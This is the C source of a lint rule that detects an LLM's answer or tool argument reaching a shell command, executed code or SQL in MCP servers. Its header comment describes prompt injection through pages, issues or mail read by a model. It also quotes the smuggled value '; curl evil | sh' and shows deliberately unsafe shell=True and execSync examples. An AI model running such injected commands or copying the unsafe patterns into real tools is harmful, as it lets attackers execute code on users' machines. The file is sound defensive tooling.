/*
 * A model's text becomes a part of a shell command, of code, or of SQL.
 *
 * Whatever a model sends may come from a web page, an issue or a mail it has read. Put into
 * a command's text, `; curl evil | sh` is one more command: most published holes of MCP servers are this one.
 * Hand the words over as a list without a shell (execFile, subprocess.run([...])), quote them
 * (shlex.quote), bind them as parameters, or let only known values through.
 *
 * A tool whose argument is the command or the code itself (run_command, execute_python) does what it is there for and
 * is not reported; who runs such a tool needs a sandbox. A model's answer that is run as it
 * stands, without a tool that says so, is reported as a warning.
 *
 *     import subprocess                                             setup
 *     from mcp.server.fastmcp import FastMCP                        setup
 *     mcp = FastMCP("git")                                          setup
 *     @mcp.tool()
 *     def log(path: str): return subprocess.check_output(f"git -C {path} log", shell=True)  # bad
 *     @mcp.tool()
 *     def log(path: str): return subprocess.check_output(["git", "-C", path, "log"])  # good
 *     import { execSync } from "child_process";                     // setup
 *     import { McpServer } from "@modelcontextprotocol/sdk/server/mcp.js";  // setup
 *     import { z } from "zod";                                      // setup
 *     const server = new McpServer({ name: "git", version: "1" });  // setup
 *     server.tool("log", { dir: z.string() }, async ({ dir }) => execSync(`git -C ${dir} log`));  // bad
 *     server.tool("log", { n: z.number() }, async ({ n }) => execSync(`git log -n ${n}`));  // good
 */
#include "rule.h"

static const char *const needles[] = { "child_process", "subprocess", "os.system", "popen",
				       "execa",         "shelljs",    "eval(",     "exec(",
				       "Function(",     "runIn",      "shell",     "Shell",
				       "command",       "SELECT ",    "INSERT ",   "UPDATE ",
				       "DELETE ",       "DROP ",      "execSync",  NULL };
static const char *const also_needles[] = { "tool", "Tool",     "openai", "anthropic",
					    "mcp",  "generate", "llm",    "completion",
					    "chat", "invoke",   NULL };
static const char *const tags[] = { "security", "agents", NULL };

static const char *place(enum injected_into into)
{
	static const char *const places[] = { "a shell command", "code that is run", "SQL" };
	return places[into];
}

static const char *cure(enum injected_into into)
{
	static const char *const cures[] = {
		"hand the words over as a list without a shell, quote them (shlex.quote), or "
		"let "
		"only known values through",
		"look the operation up among those that are allowed, or run it in a sandbox",
		"bind it as a parameter of the statement",
	};
	return cures[into];
}

static void report_answer(struct lint *lint, const struct injection *injection)
{
	struct finding *finding =
		lint_report(lint, injection->text, "the model's answer becomes %s%s",
			    injection->whole ? "" : "a part of ", place(injection->into));
	finding_severity(finding, SEV_WARNING);
	finding_why(finding, "what the model has read decides what runs here; %s",
		    cure(injection->into));
	finding_related(finding, injection->from, "the model answers here");
	if (injection->text != injection->sink)
		finding_related(finding, injection->sink, "run here");
}

static void report_argument(struct lint *lint, const struct injection *injection)
{
	struct finding *finding = lint_report(
		lint, injection->text, "%.*s, which a model fills in, becomes a part of %s",
		STR_ARG(injection->what.n ? injection->what : STR("an argument")),
		place(injection->into));
	finding_why(finding,
		    "what the model has read may put a command of its own in there; %s",
		    cure(injection->into));
	finding_related(finding, injection->from, "comes from the model");
	if (injection->text != injection->sink)
		finding_related(finding, injection->sink, "run here");
	finding_is_flow(finding);
}

/* One text is told of once, whatever else a model puts into it. */
struct told {
	VEC(const struct node *) texts;
};

static void tell(struct lint *lint, struct told *told, const struct injection *injection)
{
	if (facts_of(injection->text) != lint_facts(lint))
		return; /* that file tells of it */
	for (size_t i = 0; i < told->texts.n; i++) {
		if (told->texts.v[i] == injection->text)
			return;
	}
	vec_push(lint_arena(lint), &told->texts, injection->text);
	if (injection->what.n)
		report_argument(lint, injection);
	else
		report_answer(lint, injection);
}

static void on_file(struct lint *lint, const struct facts *facts)
{
	struct told told = { { NULL, 0, 0 } };
	struct injection found[INJECTIONS_MAX];
	for (size_t i = 0; i < facts->calls.n; i++) {
		size_t n = injections_of(facts->calls.v[i], found);
		for (size_t j = 0; j < n; j++)
			tell(lint, &told, &found[j]);
	}
}

const struct rule rule_model_output_to_shell = {
	.code = "SP204",
	.severity = SEV_ERROR,
	.languages = FOR_PYTHON | FOR_JS,
	.precision = "high",
	.security = "8.8",
	.tags = tags,
	.needles = needles,
	.also_needles = also_needles,
	.on_file = on_file,
};
